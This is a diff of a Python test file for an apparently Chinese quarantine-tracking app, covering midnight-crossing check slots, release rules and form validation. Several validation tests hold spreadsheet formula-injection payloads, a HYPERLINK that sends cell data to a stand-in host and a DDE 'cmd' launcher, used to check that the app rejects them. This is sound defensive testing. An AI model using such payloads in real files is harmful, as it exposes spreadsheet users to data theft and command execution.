@@ -37,8 +37,10 @@ def test_parse_slots_refuses_bad_format(text):
         ("06:00-12:00,11:00-20:00", "11:00-20:00"),  # overlaps the first
         ("12:00-20:00,06:00-12:00", "06:00-12:00"),  # out of order
         ("12:00-12:00", "12:00-12:00"),  # empty
-        ("20:00-08:00", "20:00-08:00"),  # backwards
         ("18:00-24:30", "18:00-24:30"),  # past midnight
+        ("24:00-06:00", "24:00-06:00"),  # starts at the next midnight
+        ("06:00-12:00,20:00-07:00", "20:00-07:00"),  # runs into the next day's first slot
+        ("20:00-08:00,08:00-12:00", "08:00-12:00"),  # a slot after the one that crosses midnight
     ],
 )
 def test_parse_slots_refuses_overlapping_or_backwards(text, bad):
@@ -46,6 +48,53 @@ def test_parse_slots_refuses_overlapping_or_backwards(text, bad):
         rules.parse_slots(text)
     assert err.value.code == "bad_slot" and err.value.field == "check_slots"
     assert "不重叠" in err.value.message and bad in err.value.message
+
+
+def test_a_slot_may_cross_midnight():
+    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
+    assert slots == [Slot(0, 480, 1200), Slot(1, 1200, 1920)]
+    assert [s.label for s in slots] == ["08:00-20:00", "20:00-08:00"]
+    assert slots[1].crosses_midnight and not slots[0].crosses_midnight
+    assert rules.parse_slots("22:00-00:00") == [Slot(0, 1320, 1440)]  # ends at midnight
+    night = rules.parse_slots("20:00-08:00")[0]
+    assert night.starts_at(dt.date(2026, 3, 5)) == local(2026, 3, 5, 20)
+    assert night.ends_at(dt.date(2026, 3, 5)) == local(2026, 3, 6, 8)
+
+
+def test_a_check_after_midnight_counts_for_the_slot_that_began_the_evening_before():
+    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
+    assert rules.slot_of(local(2026, 3, 5, 21), slots) == (dt.date(2026, 3, 5), 1)
+    assert rules.slot_of(local(2026, 3, 6, 3), slots) == (dt.date(2026, 3, 5), 1)
+    assert rules.slot_of(local(2026, 3, 6, 7, 59), slots) == (dt.date(2026, 3, 5), 1)
+    assert rules.slot_of(local(2026, 3, 6, 8), slots) == (dt.date(2026, 3, 6), 0)
+    gapped = rules.parse_slots("09:00-12:00,20:00-06:00")
+    assert rules.slot_of(local(2026, 3, 6, 5), gapped) == (dt.date(2026, 3, 5), 1)
+    assert rules.slot_of(local(2026, 3, 6, 7), gapped) == (dt.date(2026, 3, 6), 0)  # between: the next
+
+
+def test_a_slot_across_midnight_ends_the_next_morning():
+    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
+    night = (dt.date(2026, 3, 5), slots[1])
+    assert night not in rules.ended_slots(local(2026, 3, 6, 7, 59), slots)
+    assert night in rules.ended_slots(local(2026, 3, 6, 8), slots)
+    assert (dt.date(2026, 3, 6), slots[1]) not in rules.ended_slots(local(2026, 3, 6, 23), slots)
+
+
+def test_open_slots_of_the_day_include_last_nights_until_it_ends():
+    slots = rules.parse_slots("08:00-20:00,20:00-08:00")
+    at_three = rules.day_slots(local(2026, 3, 6, 3), slots)
+    assert at_three == [
+        (dt.date(2026, 3, 5), slots[1]),
+        (dt.date(2026, 3, 6), slots[0]),
+        (dt.date(2026, 3, 6), slots[1]),
+    ]
+    assert rules.day_slots(local(2026, 3, 6, 9), slots) == [
+        (dt.date(2026, 3, 6), slots[0]),
+        (dt.date(2026, 3, 6), slots[1]),
+    ]
+    assert rules.day_slots(local(2026, 3, 6, 9), rules.parse_slots(TWICE)) == [
+        (dt.date(2026, 3, 6), s) for s in rules.parse_slots(TWICE)
+    ]
 
 
 def test_adjacent_slots_are_allowed():
@@ -208,7 +257,7 @@ def test_release_blockers_before_the_end_and_with_tests_and_alerts():
         today=end, stage_end=end, tests=tests, open_alerts=["发热 2026-03-06 38.1℃"]
     )
     assert reasons == [
-        "管控期未满：2026-03-07 为最后一天，2026-03-08 起方可解除",
+        "管控期未满：2026-03-07 为最后一天，当天最后一次核酸检测（第 7 天）阴性后方可解除",
         "第 5 天（2026-03-05）核酸检测：已采样",
         "第 7 天（2026-03-07）核酸检测：待检测",
         "未处置的预警：发热 2026-03-06 38.1℃",
@@ -219,6 +268,34 @@ def test_release_blockers_empty_when_done():
     end = dt.date(2026, 3, 7)
     tests = [(1, dt.date(2026, 3, 1), "negative", "阴性"), (7, end, "negative", "阴性")]
     assert rules.release_blockers(today=dt.date(2026, 3, 8), stage_end=end, tests=tests, open_alerts=[]) == []
+
+
+def test_the_last_day_counts_once_its_last_scheduled_test_is_negative():
+    end = dt.date(2026, 3, 10)
+    tests = [(3, end, "negative", "阴性")]
+    assert rules.release_blockers(today=end, stage_end=end, tests=tests, open_alerts=[]) == []
+    # the day before the last is still inside the period, whatever the tests say
+    assert rules.release_blockers(today=dt.date(2026, 3, 9), stage_end=end, tests=tests, open_alerts=[]) == [
+        "管控期未满：2026-03-10 为最后一天，当天最后一次核酸检测（第 3 天）阴性后方可解除"
+    ]
+    # on the last day, a last test not yet negative keeps the period open
+    pending = [(3, end, "sampled", "已采样")]
+    assert rules.release_blockers(today=end, stage_end=end, tests=pending, open_alerts=[]) == [
+        "管控期未满：2026-03-10 为最后一天，当天最后一次核酸检测（第 3 天）阴性后方可解除",
+        "第 3 天（2026-03-10）核酸检测：已采样",
+    ]
+
+
+def test_a_stage_without_tests_ends_the_day_after_its_last_day():
+    end = dt.date(2026, 3, 7)
+    assert rules.release_blockers(today=end, stage_end=end, tests=[], open_alerts=[]) == [
+        "管控期未满：2026-03-07 为最后一天，2026-03-08 起方可解除"
+    ]
+    cancelled = [(7, end, "cancelled", "已取消")]
+    assert rules.release_blockers(today=end, stage_end=end, tests=cancelled, open_alerts=[]) == [
+        "管控期未满：2026-03-07 为最后一天，2026-03-08 起方可解除"
+    ]
+    assert rules.release_blockers(today=dt.date(2026, 3, 8), stage_end=end, tests=[], open_alerts=[]) == []
 
 
 def test_a_positive_test_blocks_release():
@@ -275,6 +352,81 @@ def test_clean_arrival_takes_passports_without_the_identity_checksum():
     with pytest.raises(ApplicationError) as err:
         rules.clean_arrival(_arrival(id_type="visa"), today=TODAY)
     assert err.value.field == "id_type"
+
+
+def test_clean_arrival_names_every_wrong_field_at_once():
+    good = idno(1990, 5)
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_arrival(
+            _arrival(
+                name="",
+                id_number=good[:17] + ("0" if good[17] != "0" else "1"),
+                phone="12345",
+                arrival_date="2026-03-03",
+                address="",
+            ),
+            today=TODAY,
+        )
+    errors = {e.field: e.code for e in err.value.errors}  # type: ignore[attr-defined]
+    assert errors == {
+        "name": "name_required",
+        "id_number": "id_checksum",
+        "phone": "phone_invalid",
+        "arrival_date": "arrival_future",
+        "address": "address_required",
+    }
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_name_never_starts_like_a_formula(start):
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_arrival(_arrival(name=f'{start}HYPERLINK("http://x.example/"&B2,"点击核对")'), today=TODAY)
+    assert err.value.code == "formula_like" and err.value.field == "name"
+    assert "姓名" in err.value.message and start in err.value.message
+
+
+@pytest.mark.parametrize("field", ["from_place", "address", "transport", "note"])
+def test_free_text_of_the_public_form_never_starts_like_a_formula(field):
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_arrival(_arrival(**{field: " =1+1"}), today=TODAY)
+    assert err.value.code == "formula_like" and err.value.field == field
+    # a sign inside the text is fine
+    assert rules.clean_arrival(_arrival(**{field: "1号楼 3-502"}), today=TODAY)[field] == "1号楼 3-502"
+
+
+def test_a_phone_with_the_country_code_is_not_a_formula():
+    assert rules.clean_arrival(_arrival(phone="+8613900001111"), today=TODAY)["phone"] == "13900001111"
+
+
+def test_clean_check_and_need_name_every_wrong_field():
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_check("abc", ["99"])
+    assert {e.field for e in err.value.errors} == {"temperature", "symptoms"}  # type: ignore[attr-defined]
+    assert rules.clean_check("36.6", ["1", 2]) == (Decimal("36.6"), 3)
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_need("unknown", "")
+    assert {e.field for e in err.value.errors} == {"kind", "detail"}  # type: ignore[attr-defined]
+    with pytest.raises(ApplicationError) as err:
+        rules.clean_need("shopping", "=cmd|' /C calc'!A0")
+    assert err.value.code == "formula_like" and err.value.field == "detail"
+    assert rules.clean_need("shopping", " 大米 ") == ("shopping", "大米")
+
+
+@pytest.mark.parametrize(
+    "text, compounds, parts",
+    [
+        ("建设小区3栋1单元1201", ["建设小区"], ("建设小区", "3", "1", "1201")),
+        ("建设小区 3 栋 1 单元 1201 室", ["建设小区", "建设"], ("建设小区", "3", "1", "1201")),
+        ("1号楼 502", [], ("", "1", "", "502")),
+        ("幸福小区3-2-301", ["幸福小区"], ("幸福小区", "3", "2", "301")),
+        ("幸福小区12-301", ["幸福小区"], ("幸福小区", "12", "", "301")),
+        ("建设小区三栋二单元502", ["建设小区"], ("建设小区", "3", "2", "502")),
+        ("城关镇东门外", [], ("", "", "", "")),
+        ("建设小区", ["建设小区"], ("建设小区", "", "", "")),
+    ],
+)
+def test_parse_address_reads_compound_building_unit_and_room(text, compounds, parts):
+    assert tuple(rules.parse_address(text, compounds)) == parts
 
 
 def test_clean_arrival_in_the_future():
